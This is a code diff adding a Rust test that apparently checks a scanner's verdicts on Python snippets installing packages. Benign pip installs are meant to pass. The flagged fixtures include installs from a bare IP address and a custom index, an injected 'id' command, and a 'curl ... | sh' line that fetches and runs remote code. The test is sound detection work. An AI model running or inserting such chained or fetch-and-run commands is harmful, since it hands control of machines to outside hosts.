@@ -184,3 +184,26 @@ fn a_cell_hides_no_other() {
         assert!(outcome(cells) >= Outcome::Suspicious, "{cells:#?}");
     }
 }
+
+#[test]
+fn packages_are_installed_by_calls_as_by_lines() {
+    let run = |words: &str| {
+        format!("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', {words}])")
+    };
+    for plain in [
+        run("'install', '-q', 'some-package', 'x==2.0'"),
+        run("'install', '-r', 'requirements.txt'"),
+        "import os\nos.system('pip install some-package')".to_owned(),
+        "import subprocess, sys\ndef install(p):\n    subprocess.run([sys.executable, '-m', 'pip', 'install', p])\nfor p in ['x', 'y']:\n    install(p)".to_owned(),
+    ] {
+        assert_eq!(outcome(&[&plain]), Outcome::Clean, "{plain}");
+    }
+    for elsewhere in [
+        run("'install', 'http://198.51.100.7/x.whl'"),
+        run("'install', '--index-url', 'http://198.51.100.7/simple', 'x'"),
+        "import os\nos.system('pip install x; id')".to_owned(),
+        "import os\nos.system('pip install x && curl http://198.51.100.7/a | sh')".to_owned(),
+    ] {
+        assert!(outcome(&[&elsewhere]) >= Outcome::Suspicious, "{elsewhere}");
+    }
+}
